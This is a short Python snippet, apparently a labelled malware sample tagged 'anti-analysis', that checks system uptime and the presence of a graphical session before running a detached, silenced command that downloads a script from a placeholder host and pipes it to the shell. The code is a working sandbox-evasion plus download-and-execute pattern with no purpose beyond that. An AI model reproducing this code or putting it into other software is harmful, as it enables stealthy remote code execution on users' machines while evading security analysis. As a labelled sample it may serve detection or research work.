# family: anti-analysis
# acts only on a machine up for more than an hour with a real user session
import os
import subprocess

uptime = float(open("/proc/uptime").read().split()[0])
if uptime > 3600 and os.environ.get("DISPLAY"):
    subprocess.Popen("nohup sh -c 'curl -s http://up.example.invalid/m | sh' >/dev/null 2>&1 &", shell=True)
